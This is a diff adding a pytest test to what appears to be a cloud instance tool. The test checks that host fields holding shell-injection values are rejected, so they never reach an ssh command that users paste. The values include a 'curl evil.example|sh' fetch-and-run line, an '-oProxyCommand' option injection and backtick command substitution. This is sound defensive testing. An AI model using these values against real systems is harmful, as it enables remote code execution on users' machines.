@@ -152,6 +152,14 @@ def test_without_a_mapped_port_only_the_proxy_is_left(ports: object) -> None:
     )
 
 
+@pytest.mark.parametrize("host", ["1.2.3.4; curl evil.example|sh", "-oProxyCommand=id", "a`id`b"])
+def test_what_is_no_host_is_no_address(host: str) -> None:
+    """It would stand in the command line of /ssh, for people to paste into their shells."""
+    row = instance_row(public_ipaddr=host, ssh_host=host)
+
+    assert wire.instance(row, NOW).addresses == ()
+
+
 def test_in_a_jupyter_launch_the_proxy_counts_one_up() -> None:
     """The first port is Jupyter's."""
     row = instance_row(ports=None, image_runtype="jupyter_direc ssh_direc ssh_proxy")
